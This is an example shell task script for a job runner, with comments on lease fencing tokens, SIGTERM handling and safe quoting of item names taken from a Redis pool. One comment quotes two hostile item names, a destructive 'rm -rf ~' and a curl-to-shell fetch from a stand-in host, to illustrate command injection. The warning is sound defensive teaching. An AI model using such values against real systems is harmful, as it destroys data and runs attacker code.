#!/bin/sh
# Example task for the runner (examples/shelltask/runner.yaml). The runner
# starts it once per leased item, exactly as task.command lists it (an argv,
# no shell in between), and passes the job in the environment:
#
#   RUNNER_ITEM     the pool item this run works on
#   RUNNER_TOKEN    the lease's fencing token (strictly increasing per pool)
#   RUNNER_ATTEMPT  runs of this item since its last success, from 1
#
# Never interpolate an item name into a shell string: not in task.command
# (["sh", "-c", "work {item}"]), not with eval, not in sh -c "... $item".
# Item names come from the pool, so whoever can add a member to the Redis set
# chooses them, and a name like 'x; rm -rf ~' or '$(curl evil.example|sh)'
# would run as code. Read the name from the environment and always quote
# it, "$RUNNER_ITEM", so the shell hands it on as one argument, unexpanded.
#
# The runner sends SIGTERM when the lease is lost or the runner shuts down
# (then SIGKILL after task.kill_grace): stop promptly and write nothing.
set -eu

item=${RUNNER_ITEM:?RUNNER_ITEM is not set; this script is run by the runner}
token=${RUNNER_TOKEN:?RUNNER_TOKEN is not set}
attempt=${RUNNER_ATTEMPT:-1}

stopping=0
child=
on_term() {
	stopping=1
	if [ -n "$child" ]; then kill -TERM "$child" 2>/dev/null || :; fi
}
trap on_term TERM INT

# printf '%s', not echo: echo may interpret backslashes or a leading -n in
# the item name.
printf 'start item=%s token=%s attempt=%s\n' "$item" "$token" "$attempt"

# Simulated work in steps. Sleeping in the background and waiting lets the
# trap run at once: the shell runs traps only between commands, and `wait`
# returns as soon as a trapped signal arrives.
for step in 1 2 3 4 5; do
	sleep 1 &
	child=$!
	wait "$child" || :
	child=
	if [ "$stopping" -eq 1 ]; then
		printf 'item=%s: stopped at step %s, nothing written\n' "$item" "$step" >&2
		exit 143 # 128 + SIGTERM
	fi
done

# The downstream write carries the fencing token, and the store refuses a
# token lower than the last it accepted for this item, so a run whose lease
# passed while it was stalled cannot overwrite a newer run's result. With an
# HTTP store at $RESULTS_URL (set in runner.yaml's task.env), for example:
#
#   curl --fail --silent --show-error \
#     -H "X-Fencing-Token: $token" \
#     --data-urlencode "item=$item" --data-urlencode "result=ok" \
#     "$RESULTS_URL"
#
# (--data-urlencode encodes the name; never paste it into the URL or a SQL
# string by hand.) Simulated here:
printf 'write item=%s result=ok fencing-token=%s\n' "$item" "$token"
